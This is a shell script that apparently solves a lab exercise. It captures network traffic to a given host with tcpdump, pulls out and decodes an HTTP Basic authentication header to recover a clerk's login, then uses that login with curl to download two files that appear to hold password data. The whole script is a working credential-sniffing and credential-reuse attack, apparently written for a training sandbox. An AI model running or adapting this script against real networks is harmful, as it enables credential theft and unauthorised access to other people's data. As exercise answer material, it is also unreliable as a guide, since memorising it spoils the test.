#!/bin/sh
# Exercise 3, docs/lab/desk.md: record the clerk's login, and download the desk's files with it. Arguments: the address, the port and a folder.
set -eu
lab --proof
mkdir -p "$3"
# shellcheck disable=SC2024 # This user may write to the folder.
sudo timeout 20 tcpdump -i eth0 -A -l -n "host $1 and tcp port $2" 2>/dev/null >"$3/recording" &
for _ in $(seq 18); do
  sleep 1
  login=$(sed -n 's/.*Authorization: Basic \([A-Za-z0-9+\/=]*\).*/\1/p' "$3/recording" | head -n 1 | base64 -d)
  [ -z "$login" ] || break
done
wait
[ -n "$login" ] || { echo "no login was recorded"; exit 1; }
echo "$login"
for name in unsalted.txt salted.txt; do lab curl -s -f -u "$login" -o "$3/$name" "http://$1:$2/$name"; done
